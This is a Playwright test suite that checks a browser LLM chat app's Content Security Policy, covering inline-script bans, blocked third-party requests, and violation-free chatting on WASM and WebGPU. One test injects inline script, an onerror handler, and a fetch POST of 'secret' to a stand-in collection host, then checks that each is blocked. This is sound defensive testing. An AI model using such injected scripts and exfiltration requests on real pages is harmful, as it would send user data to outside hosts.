import type { Page } from '@playwright/test';
import { expect, loadFromPicker, test } from './fixtures.ts';

/**
 * The built app's Content Security Policy (src/app/csp-policy.ts, injected by vite.config.ts): injected inline
 * script and requests to third-party origins are blocked, and the app still loads a model and chats on WASM and
 * on WebGPU with no violation at all.
 */
declare global {
  interface Window {
    __violations: { directive: string; blocked: string }[];
    __inlineRan?: boolean;
  }
}

async function watchViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
}

const violations = (page: Page) => page.evaluate(() => window.__violations);

async function chat(page: Page, device: 'WASM' | 'WebGPU'): Promise<void> {
  // fp32 and this prompt: the tiny random model answers with text (as in webgpu.spec.ts), not only an end token.
  await loadFromPicker(page, 'tiny-llama', 'fp32');
  await expect(page.getByTestId('status-device')).toHaveText(device, { timeout: 120_000 });
  await page.getByTestId('prompt').fill('Hello there');
  await page.getByTestId('prompt').press('Enter');
  // Generous: SwiftShader WebGPU on a loaded two-core machine is slow (speed is never the point here).
  await expect(page.getByTestId('message-assistant').last()).toHaveAttribute('data-status', 'complete', {
    timeout: 120_000,
  });
  await expect(page.getByTestId('message-assistant').last().locator('.content')).not.toBeEmpty();
}

test.describe('Content Security Policy', () => {
  test.use({ initialSettings: { temperature: 0, maxTokens: 16 } });
  test('every page carries it, and it forbids inline script and eval', async ({ page }) => {
    for (const path of ['/', '/api.html', '/embed.html']) {
      await page.goto(path);
      const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(policy, path).toContain("script-src 'self' 'wasm-unsafe-eval'");
      expect(policy, path).not.toMatch(/'unsafe-inline'[^;]*;?\s*$|script-src[^;]*'unsafe-(inline|eval)'/);
      expect(policy, path).toContain("worker-src 'self' blob:");
    }
  });

  test.describe('third-party origins', () => {
    // The test points the page at these hosts on purpose; the policy must stop each request before it leaves.
    test.use({ extraAllowedOrigins: ['https://third-party.example', 'https://images.example'] });
    test('an injected inline script does not run and a third-party request is blocked', async ({ page }) => {
      const failures: string[] = [];
      page.on('requestfailed', (request) =>
        failures.push(`${request.url()} ${request.failure()?.errorText}`),
      );
      await watchViolations(page);
      await page.goto('/');
      await expect(page.getByTestId('model-select')).toBeVisible();
      const outcome = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.__inlineRan = true;';
        document.head.append(script);
        const handler = document.createElement('img');
        handler.setAttribute('src', 'data:,x');
        handler.setAttribute('onerror', 'window.__inlineRan = true');
        document.body.append(handler);
        let fetched: string;
        try {
          await fetch('https://third-party.example/collect', { method: 'POST', body: 'secret' });
          fetched = 'sent';
        } catch (error) {
          fetched = `refused: ${(error as Error).name}`;
        }
        const image = new Image();
        image.src = 'https://images.example/pixel.png';
        await new Promise((resolve) => setTimeout(resolve, 500));
        return { ran: window.__inlineRan === true, fetched };
      });
      expect(outcome.ran).toBe(false);
      expect(outcome.fetched).toMatch(/^refused/);
      const seen = await violations(page);
      expect(seen).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ directive: 'script-src-elem', blocked: 'inline' }),
          expect.objectContaining({ directive: 'script-src-attr', blocked: 'inline' }),
          expect.objectContaining({
            directive: 'connect-src',
            blocked: 'https://third-party.example/collect',
          }),
          expect.objectContaining({ directive: 'img-src', blocked: 'https://images.example/pixel.png' }),
        ]),
      );
      // Chromium names the cause: blocked by the policy, not a DNS failure of a host that does not exist.
      expect(failures).toContain('https://images.example/pixel.png csp');
    });
  });

  test('the app loads a model and chats on WASM with no violation', async ({ page }) => {
    await watchViolations(page);
    await page.goto('/');
    await chat(page, 'WASM');
    expect(await violations(page)).toEqual([]);
  });

  test.describe('on WebGPU', () => {
    test.use({ webgpu: true });
    test('the app loads a model and chats on WebGPU with no violation', async ({ page }) => {
      await watchViolations(page);
      await page.goto('/');
      await chat(page, 'WebGPU');
      expect(await violations(page)).toEqual([]);
    });
  });
});
